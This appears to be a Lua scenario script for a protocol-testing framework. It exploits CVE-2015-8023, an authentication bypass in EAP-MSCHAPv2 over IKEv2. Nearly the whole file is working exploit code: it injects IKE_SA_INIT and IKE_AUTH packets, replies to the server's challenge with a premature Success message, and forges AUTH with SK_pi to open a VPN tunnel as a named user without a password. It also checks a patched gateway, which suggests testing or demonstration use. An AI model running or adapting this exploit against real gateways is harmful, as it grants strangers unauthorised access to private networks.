-- A method of EAP is a conversation with an order: challenge, response, proof, and the word that all is well. A server that does not remember where
-- it stands can be told the last word first.
attack = {
  id = "CVE-2015-8023", name = "skip-the-password",
  about = "Answers the challenge of EAP-MSCHAPv2 with its last message, Success, and leaves out the response that needs a password",
  position = "off-path",
  needs = "a user's name",
  source = "CVE-2015-8023; draft-kamath-pppext-eap-mschapv2; RFC 7296, 2.16",
  shows = {
    vulnerable = "the gateway takes the last word for the whole conversation: a stranger is the user, and has a tunnel",
    hardened = "Success without a response before it is a failure: AUTHENTICATION_FAILED",
  },
  scenarios = { vulnerable = "skip-the-password", hardened = "skip-the-password-patched" },
}

-- Parameters: target, own, user = the name of a user, first, last = addresses it asks for
local p, me = nil, nil
local goal = "be a user without the password"
local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }
local esp_proposal = { number = 1, protocol = 3, transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 5, id = 0 } } }

function on_start(params)
  p = params
  assert(p.target and p.own and p.user, "parameters target, own, user")
  timer.after("1s", "begin")
end

local function send(note, payload)
  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
end
local function request(id, payloads, note)
  send(note, ike.seal({ spi_i = me.spi, spi_r = me.spi_r, exchange = 35, initiator = true, message_id = id, payloads = payloads }, me.suite, me.keys))
end

function on_timer()
  me = { pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
  me.request = ike.encode{ spi_i = me.spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
    payloads = { ike.sa(proposal), ike.ke(me.pair), ike.nonce(me.nonce), ike.notify(16431, "\0\2\0\3\0\4\0\5") } }
  send("IKE_SA_INIT, under its own address", me.request)
end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if not me or message.spi_i ~= me.spi or not find(message, "KE") then return end
  me.spi_r, me.nr = message.spi_r, find(message, "Ni/Nr").data
  me.suite = ike.suite(find(message, "SA").proposals[1])
  me.keys = ike.keys(me.suite, { ni = me.nonce, nr = me.nr, shared = crypto.shared(me.pair, find(message, "KE").data),
    spi_i = me.spi, spi_r = message.spi_r })
  ring.ike(me.spi, me.suite, me.keys)
  esp_proposal.spi = crypto.random(4)
  me.id = ike.id("i", 3, p.user)
  request(1, { me.id, ike.sa(esp_proposal), ike.ts("i", p.first or "10.8.0.66", p.last or "10.8.0.66"), ike.ts("r", "10.2.0.0", "10.2.0.255") },
    "IKE_AUTH without AUTH: " .. p.user .. " wants to prove itself by EAP")
end)

on({ exchange = "IKE_AUTH", response = true }, function(packet, message)
  local inner = me and ring.open(packet)
  if not inner or me.done then return end
  local asked = find(inner, "EAP")
  local said = asked and eap.read(asked.data)
  if said and said.code == 1 and said.type == 26 and said.data:byte(1) == 1 then
    learn("challenge", "16 octets that only the password can answer", "EAP payload", said.data:sub(6, 21))
    return request(2, { { number = 48, body = eap.packet(2, said.identifier, 26, "\3") } }, "EAP-MSCHAPv2 Success in the place of a response")
  end
  if said and said.code == 3 then
    mark("The gateway says EAP-Success; nobody has shown a password.")
    -- EAP gave no key: AUTH is made with SK_pi
    local octets = ike.signed_octets(me.suite.prf, { message = me.request, nonce = me.nr, sk_p = me.keys.sk_pi, id = me.id.body })
    return request(message.message_id + 1, { ike.auth(2, ike.psk_auth(me.suite.prf, me.keys.sk_pi, octets)) }, "AUTH, made with SK_pi")
  end
  me.done = true
  if notify_of(inner, "AUTHENTICATION_FAILED") or (said and said.code == 4) then
    return achieved(goal, false, "EAP-Failure: a last word without the ones before it")
  end
  achieved(goal, true, "the gateway believes that " .. p.user .. " has called" .. (find(inner, "SA") and ", and opened a tunnel into its network" or ""))
end)

function on_finish()
  if not (me and me.done) then achieved(goal, false, "IKE_AUTH came to no end") end
end
